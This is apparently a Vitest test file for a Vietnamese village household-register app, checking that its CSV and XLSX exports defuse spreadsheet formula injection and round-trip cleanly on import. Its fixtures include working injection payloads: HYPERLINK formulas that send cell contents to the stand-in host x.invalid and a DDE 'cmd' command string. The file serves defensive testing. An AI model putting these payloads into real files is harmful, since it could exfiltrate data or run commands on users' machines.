// Formula injection (issue 14 §4): a cell a spreadsheet would run as a
// formula (=, +, -, @, tab, carriage return first) is written so the
// spreadsheet shows it as text, in every CSV and XLSX the project writes, and
// the guard comes off again on import, so an exported file imports back
// changing nothing.
import { afterEach, describe, expect, it } from 'vitest';
import { makeTestApp, addUser, login, api, type TestEnv } from '../support/app';
import { publishedDecision, xlsxParts } from '../support/exports';
import { parseCsv } from '../../server/services/spreadsheet/csv';
import { readXlsx } from '../../server/services/spreadsheet/xlsx-read';

let t: TestEnv;
afterEach(() => t?.close());

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const FORMULA_START = /^[=+\-@\t\r]/;

/** A CSV field as any spreadsheet writes it: quoted when it holds a comma, a quote or a line break. */
const field = (s: string) => (/[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s);

// What an attacker types into a register (or a register arrives with).
const HOSTILE = [
  { code: 'F-1', head: '=HYPERLINK("http://x.invalid/?d="&A1,"Bấm vào đây")', representative: 'Nguyễn Văn An', address: 'Xóm 1', note: '' },
  { code: 'F-2', head: 'Trần Thị Bình', representative: "+1+cmd|'/C calc'!A0", address: '-2+3', note: '@SUM(A1:A9)' },
  // a file another tool exported with its own guard: the apostrophe comes off on import
  { code: 'F-3', head: 'Lê Văn Cường', representative: 'Lê Văn Cường', address: "'=SUM(1;2)", note: '-' },
];

/** Checks that no cell of the workbook is a formula and every formula-like text cell is quote-prefixed; returns how many there are. */
function formulaLikeCells(bytes: Uint8Array): number {
  const { sheets, xfs } = xlsxParts(bytes);
  let n = 0;
  for (const sheet of sheets) {
    expect(sheet).not.toMatch(/<f[\s>]/);
    for (const m of sheet.matchAll(/<c\b([^>]*)><is><t[^>]*>([^<]*)<\/t><\/is><\/c>/g)) {
      if (!FORMULA_START.test(m[2]!.replace(/&amp;/g, '&').replace(/&quot;/g, '"'))) continue;
      const style = Number(/\bs="(\d+)"/.exec(m[1]!)?.[1] ?? 0);
      expect(xfs[style], `cell ${m[1]} is quote-prefixed`).toMatch(/quotePrefix="1"/);
      n++;
    }
  }
  return n;
}

async function staffWithHostileRegister() {
  t = await makeTestApp();
  await addUser(t, { username: 'canbo', role: 'staff' });
  const cookie = await login(t, 'canbo');
  expect((await api(t, 'POST', '/api/v1/villages', { cookie, body: { code: 'DS', name: 'Thôn Đông Sơn' } })).status).toBe(201);
  const csv = [
    'Mã hộ,Thôn,Họ và tên chủ hộ,Người đại diện,Địa chỉ,Số nhân khẩu,Số điện thoại,Ghi chú',
    ...HOSTILE.map((h) => [h.code, 'Thôn Đông Sơn', h.head, h.representative, h.address, '2', '0912345678', h.note].map(field).join(',')),
  ].join('\r\n');
  const r = await api(t, 'POST', '/api/v1/households/import', { cookie, headers: { 'content-type': 'text/csv' }, body: csv });
  expect(r.json).toMatchObject({ created: 3, rejected: 0 });
  // text that really starts with an apostrophe, typed through the API
  const patch = await api(t, 'PATCH', '/api/v1/households/F-3', { cookie, body: { note: "'+ghi chú có dấu nháy", reason: 'Ghi chú' } });
  expect(patch.status).toBe(200);
  return cookie;
}

/** The stored register, as the API returns it. */
async function stored(cookie: string) {
  const r = await api(t, 'GET', '/api/v1/households', { cookie });
  return (r.json as { code: string; head: string; representative: string; address: string; note: string }[])
    .map(({ code, head, representative, address, note }) => ({ code, head, representative, address, note }));
}

describe('formula injection in exported spreadsheets', () => {
  it('writes the register CSV with every formula-like cell as text, and it imports back changing nothing', async () => {
    const cookie = await staffWithHostileRegister();
    const before = await stored(cookie);
    expect(before.map((h) => [h.address, h.note])).toEqual([['Xóm 1', ''], ['-2+3', '@SUM(A1:A9)'], ['=SUM(1;2)', "'+ghi chú có dấu nháy"]]);

    const res = await t.app.request('/api/v1/households/export.csv', { headers: { cookie } });
    expect(res.status).toBe(200);
    const text = await res.text();
    const cells = parseCsv(text).flatMap((r) => r.cells);
    expect(cells.filter((c) => FORMULA_START.test(c))).toEqual([]);
    // shown as the text that was typed, after the apostrophe a spreadsheet reads as "this is text"
    for (const h of before) for (const v of [h.head, h.representative, h.address, h.note]) if (FORMULA_START.test(v)) expect(cells).toContain(`'${v}`);
    // text that starts with an apostrophe of its own keeps it: the export adds one more
    expect(cells).toContain("''+ghi chú có dấu nháy");

    const back = await api(t, 'POST', '/api/v1/households/import', { cookie, headers: { 'content-type': 'text/csv' }, body: text });
    expect(back.json).toEqual({ created: 0, updated: 0, unchanged: 3, rejected: 0, errors: [] });
    expect(await stored(cookie)).toEqual(before);
  });

  it('writes the register XLSX with formula-like cells as text (no formulas, quote-prefixed), and it imports back changing nothing', async () => {
    const cookie = await staffWithHostileRegister();
    const before = await stored(cookie);
    const res = await t.app.request('/api/v1/households/export.xlsx', { headers: { cookie } });
    expect(res.headers.get('content-type')).toBe(XLSX);
    const bytes = new Uint8Array(await res.arrayBuffer());

    expect(formulaLikeCells(bytes)).toBeGreaterThanOrEqual(5);
    // the workbook holds the values themselves: what was typed, nothing added
    const values = readXlsx(bytes)[0]!.rows.slice(1).map((r) => r.cells);
    expect(values.map((c) => c[3])).toEqual(HOSTILE.map((h) => h.head));

    const back = await api(t, 'POST', '/api/v1/households/import', { cookie, headers: { 'content-type': XLSX }, body: bytes });
    expect(back.json).toEqual({ created: 0, updated: 0, unchanged: 3, rejected: 0, errors: [] });
    expect(await stored(cookie)).toEqual(before);
  });

  it('writes the results CSV and XLSX with a formula-like village name as text', async () => {
    t = await makeTestApp();
    const village = '=HYPERLINK("http://x.invalid/?d="&B2,"Thôn Đông Sơn")';
    const { id, slug } = await publishedDecision(t, [{ code: 'DS', name: village, households: 10, returned: 9, counts: [7, 1, 1] }]);

    const csv = await t.app.request(`/api/v1/campaigns/${id}/results.csv`);
    expect(csv.status).toBe(200);
    const cells = parseCsv(await csv.text()).flatMap((r) => r.cells);
    expect(cells.filter((c) => FORMULA_START.test(c))).toEqual([]);
    expect(cells).toContain(`'${village}`);

    const xlsx = await t.app.request(`/api/v1/campaigns/${id}/results.xlsx`);
    expect(xlsx.status).toBe(200);
    expect(xlsx.headers.get('content-type')).toBe(XLSX);
    expect(xlsx.headers.get('content-disposition')).toMatch(/^attachment; filename="ket-qua-.*-v1\.xlsx"$/);
    const bytes = new Uint8Array(await xlsx.arrayBuffer());
    expect(formulaLikeCells(bytes)).toBe(3); // the village on each of its three option rows
    expect(readXlsx(bytes)[0]!.rows[1]!.cells[1]).toBe(village);

    // the public page offers the workbook beside the CSV
    const page = await (await t.app.request(`/r/${slug}`)).text();
    expect(page).toContain(`href="/api/v1/campaigns/${id}/results.xlsx"`);
    expect(page).toContain(`href="/api/v1/campaigns/${id}/results.csv"`);
  });
});
